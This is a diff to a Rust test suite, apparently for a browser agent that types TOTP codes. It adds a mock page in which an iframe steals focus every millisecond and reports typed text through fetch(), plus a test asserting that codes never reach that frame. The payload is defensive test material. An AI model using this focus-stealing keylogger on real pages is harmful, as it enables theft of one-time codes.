@@ -144,6 +144,30 @@ async fn start_site(secret: Vec<u8>) -> Site {
                 ))
             }),
         )
+        // A granted page's code field beside a frame of another site
+        // that takes the focus back every millisecond and reports what
+        // is typed into it.
+        .route(
+            "/stolen",
+            get(move || async move {
+                Html(format!(
+                    "<!doctype html><title>Stolen</title>\
+                     <input id=code autocomplete=one-time-code inputmode=numeric>\
+                     <iframe id=thief src='http://localhost:{port}/thief' style='width:300px;height:80px'></iframe>"
+                ))
+            }),
+        )
+        .route(
+            "/thief",
+            get(|| async {
+                Html(
+                    "<!doctype html><title>Thief</title>\
+                     <input id=t oninput=\"fetch('/note?v='+encodeURIComponent(this.value))\">\
+                     <script>setInterval(() => document.getElementById('t').focus(), 1);\
+                     fetch('/note?v=thief-ready')</script>",
+                )
+            }),
+        )
         .route(
             "/note",
             get(
@@ -1413,5 +1437,60 @@ async fn a_fifty_megabyte_qr_image_is_refused_with_413_naming_the_image_field() 
     assert_eq!(body["error"]["field"], "image", "{body}");
     assert_eq!(body["error"]["code"], "payload_too_large", "{body}");
     assert!(app.state.store.totp_list(None).await.unwrap().is_empty());
+    app.stop().await;
+}
+
+/// A frame of another site on a granted page that takes the focus back
+/// every millisecond never receives the code: the code goes into the
+/// field checked, or nowhere.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_frame_that_steals_the_focus_never_receives_the_code() {
+    let secret = random_secret();
+    let bytes = seed_bytes(&secret);
+    let site = start_site(bytes.clone()).await;
+    let port = site.addr.port();
+    let app =
+        app_with_seed_allowing(&secret, &format!("{},localhost:{port}", site.addr), &[]).await;
+    let agent = app.agent("acme").await;
+    let sid = granted_session(&app, &agent, &["127.0.0.1"], json!({ "totp": true })).await;
+    agent.navigate_ok(&sid, &site.url("/stolen")).await;
+    crate::helpers::wait_until(
+        "the thief's frame",
+        std::time::Duration::from_secs(20),
+        || async {
+            let notes = site.seen.notes.lock().unwrap().clone();
+            if notes.iter().any(|n| n == "thief-ready") {
+                Ok(())
+            } else {
+                Err(format!("{notes:?}"))
+            }
+        },
+    )
+    .await;
+    let mut typed = 0;
+    for _ in 0..5 {
+        let (status, v) = agent
+            .tool(&sid, "type_totp", json!({ "selector": "#code" }))
+            .await;
+        // Typed into the field, or refused: never anywhere else.
+        assert!(
+            status == StatusCode::OK || status.is_client_error(),
+            "{status}: {v}"
+        );
+        typed += usize::from(status == StatusCode::OK);
+    }
+    // The code does go in, focus thief or not.
+    assert!(typed >= 1, "no code was typed in 5 tries");
+    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
+    let notes = site.seen.notes.lock().unwrap().clone();
+    assert!(
+        notes.iter().all(|n| n == "thief-ready"),
+        "the thief's frame received typed text: {} notes",
+        notes.len()
+    );
+    assert!(
+        !notes.iter().any(|n| holds_a_code(n, &bytes)),
+        "the thief got a code"
+    );
     app.stop().await;
 }
